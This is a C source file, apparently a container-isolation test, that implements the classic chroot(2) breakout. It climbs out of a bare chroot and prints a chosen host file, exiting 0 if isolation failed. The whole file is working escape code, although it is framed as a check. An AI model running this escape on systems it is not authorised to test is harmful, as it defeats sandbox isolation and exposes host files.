/*
 * breakout FILE — the classic escape from a bare chroot(2), run inside a container.
 *
 * chroot() changes what "/" means but not the working directory, and root
 * may call it again. So: chroot into a subdirectory while our working
 * directory stays above it; ".." from outside the root is never stopped, so
 * climbing far enough reaches the real "/"; chroot(".") there makes it ours.
 * A pivot_root(2) whose old root has been unmounted leaves nothing to climb to.
 *
 * Prints FILE as read from wherever the climb ended. Exit 0: the file was
 * reached; 1: it was not (the container held).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) { fprintf(stderr, "usage: breakout FILE\n"); return 2; }
  char dir[64];
  snprintf(dir, sizeof dir, "/tmp/.breakout-%d", (int)getpid());
  int top = open("/", O_DIRECTORY | O_RDONLY);
  if (top < 0 || mkdir(dir, 0700) < 0 || chroot(dir) < 0) { perror("breakout: setup"); return 2; }
  unlinkat(top, dir + 1, AT_REMOVEDIR); /* tidy up through the old root; the cwd still pins it */
  for (int i = 0; i < 256; i++) chdir("..");
  if (chroot(".") < 0) { perror("breakout: chroot(\".\")"); return 2; }

  int fd = open(argv[1], O_RDONLY);
  if (fd < 0) { fprintf(stderr, "breakout: %s is not reachable: the container held\n", argv[1]); return 1; }
  char buf[4096];
  ssize_t n;
  while ((n = read(fd, buf, sizeof buf)) > 0) write(1, buf, n);
  return 0;
}
